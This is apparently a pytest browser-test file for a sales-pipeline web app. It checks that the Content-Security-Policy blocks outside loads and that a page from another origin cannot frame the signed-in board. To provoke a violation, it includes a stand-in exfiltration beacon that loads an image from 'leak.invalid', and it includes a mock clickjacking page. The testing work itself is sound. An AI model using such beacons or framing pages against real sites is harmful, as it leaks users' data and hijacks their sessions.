"""The pages run in Chromium under the Content-Security-Policy, and no other origin can frame them.

The console is read through chromedriver (``get_log('browser')``): a page that NiceGUI, Vue or Quasar
could not run under the policy would log "Content Security Policy" violations there. Each test also
provokes one violation on purpose, so an empty log means "nothing was blocked", not "nothing is logged".
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from browser_helpers import (
    BrowserFactory,
    Server,
    card_names,
    create_lead,
    drag,
    register,
    sign_in,
    wait,
    wait_for_value,
)
from selenium import webdriver
from selenium.webdriver.common.by import By

pytestmark = pytest.mark.browser

CSP = 'Content Security Policy'


class Console:
    """A window's console messages, collected as they arrive (chromedriver hands each one out once)."""

    def __init__(self, driver: webdriver.Chrome) -> None:
        self.driver = driver
        self.seen: list[str] = []

    def messages(self) -> list[str]:
        """Every message so far."""
        self.seen.extend(str(entry['message']) for entry in self.driver.get_log('browser'))
        return self.seen

    def violations(self) -> list[str]:
        """The messages about a blocked load, script or frame."""
        return [message for message in self.messages() if CSP in message]


def provoke_violation(driver: webdriver.Chrome, console: Console) -> None:
    """Load an image from another origin (what an injected script would do to leak data); wait for the report."""
    driver.execute_script("new Image().src = 'http://leak.invalid/pixel.png?board'")
    wait(driver).until(lambda _: any('leak.invalid' in message for message in console.violations()))


def test_sign_in_and_a_drag_run_under_the_policy_without_a_violation(
    server: Server, open_browser: BrowserFactory
) -> None:
    page = httpx.get(f'{server.url}/login', timeout=10)
    assert "frame-ancestors 'none'" in page.headers['content-security-policy']
    ana = register(server, 'Ana Souza')
    create_lead(ana, 'Padaria Pão Quente', value='1000')
    create_lead(ana, 'Academia Movimento', value='250.50')
    driver = open_browser()
    console = Console(driver)

    sign_in(driver, ana)  # the login page, then the board with its socket.io connection
    drag(driver, 'Academia Movimento', 'proposta')
    wait_for_value(driver, lambda d: card_names(d, 'proposta'), ['Academia Movimento'], 'Proposta after the drag')
    driver.get(f'{server.url}/team')  # another page, Quasar menus and dialogs
    wait(driver).until(lambda d: d.find_elements(By.CSS_SELECTOR, '.member-list .member-row'))

    assert console.violations() == []
    provoke_violation(driver, console)
    assert all('leak.invalid' in message for message in console.violations())


class FramingPage(BaseHTTPRequestHandler):
    """A page of another origin (same site: 127.0.0.1, another port) that frames the board."""

    target = ''

    def do_GET(self) -> None:
        body = f'<!doctype html><title>Prize</title><iframe id="board" src="{self.target}"></iframe>'.encode()
        self.send_response(200)
        self.send_header('Content-Type', 'text/html; charset=utf-8')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


@contextmanager
def framing_site(target: str) -> Iterator[str]:
    """Serve ``FramingPage`` (framing ``target``) on a loopback port; yields its URL."""
    handler = type('Framing', (FramingPage,), {'target': target})
    site = ThreadingHTTPServer(('127.0.0.1', 0), handler)
    thread = threading.Thread(target=site.serve_forever, name='framing-site', daemon=True)
    thread.start()
    try:
        yield f'http://127.0.0.1:{site.server_address[1]}/'
    finally:
        site.shutdown()
        site.server_close()
        thread.join(timeout=5)


def test_a_page_of_another_origin_cannot_frame_the_signed_in_board(
    server: Server, open_browser: BrowserFactory
) -> None:
    ana = register(server, 'Ana Souza')
    create_lead(ana, 'Padaria Pão Quente')
    driver = open_browser()
    sign_in(driver, ana)  # the browser holds a signed-in session the framing page would ride on
    console = Console(driver)
    console.messages()  # what the board logged is not this test's business

    with framing_site(f'{server.url}/pipeline') as site:
        driver.get(site)
        # settled: Chromium refused the frame, or (without the defence) the board showed up inside it
        wait(driver).until(lambda d: refused_frame(console) or 'Padaria Pão Quente' in framed_text(d))
        shown = framed_text(driver)
        driver.switch_to.frame(driver.find_element(By.ID, 'board'))
        board_parts = driver.find_elements(By.CSS_SELECTOR, '#app, .lead-card, [data-stage]')
        driver.switch_to.default_content()

    assert 'Padaria Pão Quente' not in shown, 'the board rendered inside a page of another origin'
    assert board_parts == []
    assert refused_frame(console)


def framed_text(driver: webdriver.Chrome) -> str:
    """What the iframe of the framing page shows."""
    driver.switch_to.frame(driver.find_element(By.ID, 'board'))
    try:
        return str(driver.execute_script('return document.body ? document.body.innerText : ""'))
    finally:
        driver.switch_to.default_content()


def refused_frame(console: Console) -> bool:
    """Whether Chromium reported refusing to frame the page (``frame-ancestors``)."""
    return any('frame-ancestors' in message for message in console.violations())
